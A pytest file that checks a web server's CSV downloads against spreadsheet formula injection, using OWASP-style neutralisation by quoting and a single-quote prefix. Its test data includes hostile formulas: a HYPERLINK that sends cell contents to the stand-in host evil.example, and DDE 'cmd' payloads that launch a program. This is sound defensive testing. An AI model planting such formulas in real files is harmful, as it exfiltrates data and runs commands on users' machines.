"""CSV downloads carry no spreadsheet formula: a cell that starts with
=, +, -, @, a tab or a carriage return goes out quoted and prefixed with
a single quote (OWASP's advice on CSV injection), while numbers, negative
ones included, stay numbers."""
import csv
import io
import math

import pytest

import webserver

START = 1704067200.0
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
    "=cmd,with,commas",
]
HARMLESS = ["plain", "-5", "'=already neutralised", "a=b", " =spaced"]
VALUES = [-5.5, -1e-07, 42.0, float("-inf"), float("nan"), 0.0]


@pytest.fixture(scope="module")
def hostile_csv_run(cluster):
    metrics = {name: (lambda i, k=k: VALUES[(i + k) % len(VALUES)])
               for k, name in enumerate(FORMULAS + HARMLESS)}
    return webserver.import_run(cluster, "=tracer", metrics, START, len(VALUES))


def _rows(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


@pytest.mark.parametrize("path", ["/api/runs/%s.csv", "/tracing_data_handler_as_csv?uuid=%s"])
def test_formula_cells_are_neutralised(web, hostile_csv_run, path):
    status, headers, body = web.request("GET", path % hostile_csv_run)
    assert status == 200 and headers["content-type"].startswith("text/csv")
    rows = _rows(body)
    header = rows[0]
    assert header[0] == "ts"
    by_name = dict(zip(FORMULAS + HARMLESS, header[1:]))
    assert len(header) == 1 + len(FORMULAS) + len(HARMLESS), header
    for name in FORMULAS:
        assert by_name[name] == "'" + name, (name, by_name[name])
    for name in HARMLESS:
        assert by_name[name] == name, (name, by_name[name])
    # No cell of the file starts a formula, as a spreadsheet reads it.
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)      # a number, not a formula


def test_negative_numbers_stay_numbers(web, hostile_csv_run):
    _, _, body = web.request("GET", "/api/runs/%s.csv" % hostile_csv_run)
    rows = _rows(body)
    cells = [c for row in rows[1:] for c in row[1:] if c != ""]
    values = [float(c) for c in cells]
    assert -5.5 in values and -1e-07 in values and float("-inf") in values
    assert any(math.isnan(v) for v in values)
    # Unquoted on the wire, exactly as PostgreSQL wrote them.
    text = body.decode()
    assert ",-5.5" in text and ",-Infinity" in text and "\"-5.5\"" not in text


def test_neutralised_fields_are_quoted_on_the_wire(web, hostile_csv_run):
    _, _, body = web.request("GET", "/api/runs/%s.csv" % hostile_csv_run)
    header_line = body.decode().split("\n", 1)[0]
    assert ',"\'@SUM(1,2)",' in header_line
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in header_line
    # Already neutralised: passed as it came, not prefixed twice.
    assert "''=already" not in header_line
